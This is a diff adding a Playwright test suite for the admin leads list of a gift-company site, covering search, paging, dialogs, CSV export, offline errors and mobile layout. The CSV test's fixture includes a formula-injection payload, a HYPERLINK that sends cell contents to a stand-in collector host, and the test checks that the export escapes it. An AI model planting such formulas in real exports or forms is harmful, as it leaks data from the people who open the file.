@@ -1,0 +1,270 @@
+import { readFile } from 'node:fs/promises'
+
+import type { APIRequestContext, Page } from '@playwright/test'
+
+import { expect, type Giftwell, test } from './support/giftwell.ts'
+import { addToInquiry, adminSignIn, fillInquiry } from './support/steps.ts'
+
+interface SentLead {
+  readonly name: string
+  readonly company: string
+  readonly email: string
+  readonly phone?: string
+  readonly message?: string
+  readonly selected_products?: readonly string[]
+}
+
+/** Sends a lead as the public site does, which is signed in as nobody. */
+async function send(request: APIRequestContext, lead: SentLead) {
+  const config = await request.get('/config.json')
+  // The contract's form.
+  const { supabaseKey } = (await config.json()) as { supabaseKey: string }
+  const answer = await request.post('/rest/v1/leads', {
+    headers: { apikey: supabaseKey },
+    data: { phone: '+91 98765 43210', ...lead },
+  })
+  expect(answer.status()).toBe(201)
+}
+
+/** A word that is in no other lead: all tests share one site. */
+function newWord(giftwell: Giftwell): string {
+  return giftwell.newAddress('w').replace('@example.com', '')
+}
+
+async function openLeads(page: Page, giftwell: Giftwell, address = '/admin/leads') {
+  await page.goto('/admin/login')
+  await adminSignIn(page, giftwell.admin)
+  await expect(page.getByRole('heading', { name: 'Admin Dashboard' })).toBeVisible()
+  await page.goto(address)
+  await expect(page.getByRole('heading', { name: 'Leads', exact: true })).toBeVisible()
+}
+
+const rows = (page: Page) => page.getByRole('table', { name: 'Leads' }).getByRole('row')
+
+test('a lead that is sent while the list is open appears in it without a reload', async ({
+  page,
+  browser,
+  giftwell,
+  request,
+}) => {
+  await send(request, {
+    name: 'Earlier Buyer',
+    company: 'Test Company',
+    email: giftwell.newAddress('earlier'),
+  })
+  await page.clock.install()
+  await openLeads(page, giftwell)
+  await expect(rows(page).filter({ hasText: 'Earlier Buyer' }).first()).toBeVisible()
+  await expect(page.getByText('New', { exact: true })).toBeHidden()
+  await page.evaluate(() => Object.assign(window, { isSamePage: true }))
+
+  const visitor = await (await browser.newContext({ baseURL: giftwell.baseUrl })).newPage()
+  await visitor.goto('/catalogue')
+  const products = await addToInquiry(visitor, 1)
+  const email = giftwell.newAddress('visitor')
+  const dialog = await fillInquiry(visitor, { name: 'Later Buyer', company: 'Test Company', email })
+  await dialog.getByRole('button', { name: 'Submit Inquiry' }).click()
+  await expect(dialog).toBeHidden()
+  await visitor.context().close()
+
+  await page.clock.runFor(15_000)
+  const lead = rows(page).filter({ hasText: email })
+  await expect(lead).toContainText(products.join(''))
+  await expect(lead.getByText('New', { exact: true })).toBeVisible()
+  await expect(page.getByText('1 new lead')).toBeAttached()
+  expect(await page.evaluate(() => 'isSamePage' in window)).toBe(true)
+
+  await lead.getByRole('button', { name: 'Later Buyer' }).click()
+  await expect(page.getByRole('dialog', { name: 'Later Buyer' })).toBeVisible()
+  await page.keyboard.press('Escape')
+  await expect(lead.getByText('New', { exact: true })).toBeHidden()
+})
+
+test('a lead is found by a part of any of its words and between days, and the address keeps what was asked', async ({
+  page,
+  giftwell,
+  request,
+}) => {
+  const word = newWord(giftwell)
+  const lead = { name: 'Seeker', company: 'Test Company', email: giftwell.newAddress('seeker') }
+  await send(request, { ...lead, message: `Please send 100% “${word.toUpperCase()}” (a_b), today` })
+  await send(request, { ...lead, name: 'Another', selected_products: ['Steel Tumbler', `Mug ${word}`] })
+  await openLeads(page, giftwell)
+
+  await page.keyboard.press('/')
+  await page.keyboard.type(word)
+  await expect(page.getByRole('heading', { name: 'All Leads (2)' })).toBeVisible()
+  await expect(rows(page)).toHaveCount(3)
+  await page.reload()
+  await expect(page.getByRole('searchbox', { name: 'Search leads' })).toHaveValue(word)
+  await expect(page.getByRole('heading', { name: 'All Leads (2)' })).toBeVisible()
+  await page.getByRole('searchbox', { name: 'Search leads' }).fill(`100% “${word}” (a_b), `)
+  await expect(page.getByRole('heading', { name: 'All Leads (1)' })).toBeVisible()
+  await expect(rows(page).nth(1)).toContainText('Seeker')
+  await page.goBack()
+  await expect(page.getByRole('heading', { name: 'All Leads (2)' })).toBeVisible()
+
+  // The browser's own day, which is not the server's.
+  const today = await page.evaluate(() => new Date().toLocaleDateString('sv-SE'))
+  await page.getByLabel('From').fill(today)
+  await page.getByLabel('To', { exact: true }).fill(today)
+  await expect(page).toHaveURL(new RegExp(`search=${word}&from=${today}&to=${today}`))
+  await expect(page.getByRole('heading', { name: 'All Leads (2)' })).toBeVisible()
+  await page.getByLabel('To', { exact: true }).fill('2020-01-01')
+  await expect(page.getByText('From is after To')).toBeVisible()
+  await page.getByLabel('From').fill('')
+  await expect(page.getByText('From is after To')).toBeHidden()
+  await expect(page.getByText('No leads match your search and dates.')).toBeVisible()
+  await expect(page.getByRole('heading', { name: 'All Leads (0)' })).toBeVisible()
+  await page.getByRole('button', { name: 'Clear search and dates' }).click()
+  await expect(page).toHaveURL(/\/admin\/leads$/)
+  await expect(rows(page).filter({ hasText: word }).first()).toBeVisible()
+})
+
+test('a long list is turned page by page, and its leads one by one with everything in them', async ({
+  page,
+  giftwell,
+  request,
+}) => {
+  const word = newWord(giftwell)
+  for (let number = 1; number <= 27; number += 1) {
+    await send(request, {
+      name: `Buyer ${number}`,
+      company: word,
+      email: giftwell.newAddress('buyer'),
+      message: 'Two lines:\nthis is the second.',
+      selected_products: ['Mug', 'Pen', 'Bag', 'Lamp', `Clock ${number}`],
+    })
+  }
+  await openLeads(page, giftwell, `/admin/leads?search=${word}`)
+  await expect(page.getByText('1–25 of 27')).toBeVisible()
+  await expect(rows(page)).toHaveCount(26)
+  await expect(rows(page).nth(1)).toContainText('Buyer 27')
+  await page.getByRole('button', { name: 'Next page' }).click()
+  await expect(page.getByText('26–27 of 27')).toBeVisible()
+  await expect(rows(page)).toHaveCount(3)
+  await expect(rows(page).nth(1)).toContainText('Buyer 2')
+  await expect(page.getByRole('button', { name: 'Next page' })).toBeDisabled()
+  await page.getByRole('button', { name: 'Previous page' }).click()
+  await expect(page.getByText('1–25 of 27')).toBeVisible()
+  await page.getByRole('button', { name: 'Last page' }).click()
+  await expect(page.getByText('26–27 of 27')).toBeVisible()
+
+  await rows(page).nth(1).getByRole('button', { name: '+2 more products of Buyer 2' }).click()
+  const dialog = page.getByRole('dialog', { name: 'Buyer 2' })
+  await expect(dialog.getByRole('listitem')).toHaveText(['Mug', 'Pen', 'Bag', 'Lamp', 'Clock 2'])
+  await expect(dialog.getByText('Two lines:')).toHaveCSS('white-space', 'pre-wrap')
+  await expect(dialog.getByRole('link', { name: 'Reply by e-mail' })).toHaveAttribute(
+    'href',
+    /^mailto:buyer-\w+@example\.com\?subject=Your%20inquiry%20to%20Giftwell$/,
+  )
+  await page.keyboard.press('ArrowRight')
+  await expect(page.getByRole('dialog', { name: 'Buyer 1' })).toContainText('2 of 2 on this page')
+  await page.keyboard.press('ArrowRight')
+  await page.keyboard.press('ArrowLeft')
+  await expect(dialog).toContainText('1 of 2 on this page')
+  await page.keyboard.press('Escape')
+  await expect(page.getByRole('dialog')).toBeHidden()
+
+  // Anywhere on the row, with the mouse.
+  await rows(page).nth(2).getByText('Two lines:').click()
+  await expect(page.getByRole('dialog', { name: 'Buyer 1' })).toBeVisible()
+})
+
+/** The cells of a CSV file, read as RFC 4180 says. */
+function parse(csv: string): string[][] {
+  const lines: string[][] = [[]]
+  for (const [, quoted, plain = '', end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
+    lines.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain)
+    if (end !== ',') lines.push([])
+  }
+  return lines.slice(0, -1)
+}
+
+test('what is listed is exported for spreadsheets, whole and without formulas', async ({
+  page,
+  giftwell,
+  request,
+}) => {
+  const word = newWord(giftwell)
+  const email = giftwell.newAddress('exported')
+  await send(request, {
+    name: '=HYPERLINK("https://collector.example/?"&B1,"Prices")',
+    company: `Ünïque, "${word}" & Søns ${'\u{1F381}'}`,
+    email,
+    message: 'one\ntwo; three',
+    selected_products: ['Mug, tall', 'Pen'],
+  })
+  await send(request, { name: 'Plain', company: word, email })
+  await openLeads(page, giftwell, `/admin/leads?search=${word}`)
+  await expect(page.getByRole('heading', { name: 'All Leads (2)' })).toBeVisible()
+  const downloading = page.waitForEvent('download')
+  await page.getByRole('button', { name: 'Export to CSV' }).click()
+  const download = await downloading
+  await expect(page.getByRole('status').filter({ hasText: '2 leads exported' })).toBeVisible()
+  expect(download.suggestedFilename()).toMatch(/^giftwell-leads-\d{4}-\d{2}-\d{2}\.csv$/)
+
+  const bytes = await readFile(await download.path())
+  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
+  const date: unknown = expect.stringMatching(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/)
+  expect(parse(bytes.subarray(3).toString('utf8'))).toEqual([
+    ['Name', 'Company', 'Email', 'Phone', 'Products', 'Message', 'Date'],
+    ['Plain', word, email, "'+91 98765 43210", '', '', date],
+    [
+      `'=HYPERLINK("https://collector.example/?"&B1,"Prices")`,
+      `Ünïque, "${word}" & Søns ${'\u{1F381}'}`,
+      email,
+      "'+91 98765 43210",
+      'Mug, tall; Pen',
+      'one\ntwo; three',
+      date,
+    ],
+  ])
+})
+
+test('a backend that cannot be reached is said in words, and works again when asked again', async ({
+  page,
+  context,
+  giftwell,
+  request,
+}) => {
+  const word = newWord(giftwell)
+  await send(request, { name: 'Patient Buyer', company: word, email: giftwell.newAddress('patient') })
+  await openLeads(page, giftwell)
+  await expect(rows(page).filter({ hasText: word })).toBeVisible()
+  await context.setOffline(true)
+  await page.getByRole('button', { name: 'Export to CSV' }).click()
+  await expect(page.getByRole('alert').filter({ hasText: 'Error exporting leads' })).toContainText(
+    'Press Export to CSV to try again.',
+  )
+  await page.getByRole('searchbox', { name: 'Search leads' }).fill(word)
+  await expect(page.getByText(/^Error loading leads: /)).toBeVisible({ timeout: 20_000 })
+  await context.setOffline(false)
+  await page.getByRole('button', { name: 'Retry' }).click()
+  await expect(rows(page).filter({ hasText: 'Patient Buyer' })).toBeVisible()
+})
+
+test('on a phone, a lead is read without scrolling sideways', async ({ page, giftwell, request }) => {
+  const word = newWord(giftwell)
+  const long = 'Averyverylongwordwithoutanyplacetobreakitinto'
+  await send(request, {
+    name: `${long} Buyer`,
+    company: `${long} ${word}`,
+    email: giftwell.newAddress(long.toLowerCase()),
+    message: `${long} ${long}`,
+    selected_products: [`${long} ${long}`, 'Pen'],
+  })
+  await page.setViewportSize({ width: 360, height: 740 })
+  await openLeads(page, giftwell, `/admin/leads?search=${word}`)
+  await expect(rows(page).nth(1)).toBeVisible()
+  const width = () => page.evaluate(() => document.documentElement.scrollWidth)
+  expect(await width()).toBe(360)
+  await rows(page)
+    .nth(1)
+    .getByRole('button', { name: `${long} Buyer` })
+    .click()
+  const dialog = page.getByRole('dialog')
+  await expect(dialog.getByRole('link', { name: 'Reply by e-mail' })).toBeVisible()
+  expect(await dialog.evaluate((element) => element.scrollWidth - element.clientWidth)).toBe(0)
+  expect(await width()).toBe(360)
+})
